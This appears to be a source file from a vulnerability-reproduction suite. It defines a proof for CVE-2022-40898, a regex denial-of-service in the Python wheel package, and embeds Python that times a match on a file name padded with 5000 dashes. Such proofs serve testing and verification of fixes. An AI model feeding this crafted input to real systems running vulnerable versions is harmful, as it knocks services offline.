import { defineProof } from '../define-proof.ts';

/** Reads the file name of a wheel with very many dashes and takes the time. */
export const wheelNameTime = defineProof({
  name: 'wheel-name-time',
  ids: ['CVE-2022-40898', 'GHSA-qwmp-2cf2-g9g6', 'PYSEC-2022-43017'],
  ecosystem: 'PyPI',
  package: 'wheel',
  modules: ['wheel'],
  kind: 'redos',
  describes: 'Reads the file name of a wheel with very many dashes and takes the time.',
  shownOn: { vulnerable: '0.37.1', fixed: '0.38.1' },
  source: `
from wheel.wheelfile import WHEEL_INFO_RE


def proof(tools):
    name = "a-1" + "-" * 5000 + ".whx"
    return tools.cpu_ms(lambda: WHEEL_INFO_RE.match(name)) > 1000, bool(WHEEL_INFO_RE.match("a-1.0-py3-none-any.whl"))
`,
});
